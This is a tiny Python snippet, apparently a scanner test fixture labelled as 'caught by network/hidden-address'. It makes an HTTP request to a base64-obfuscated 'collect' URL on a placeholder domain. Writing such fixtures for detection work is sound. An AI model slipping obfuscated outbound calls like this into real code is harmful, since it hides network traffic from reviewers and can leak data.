# evades: caught by network/hidden-address
import base64, requests
requests.get(base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LmludmFsaWQvYQ==").decode())
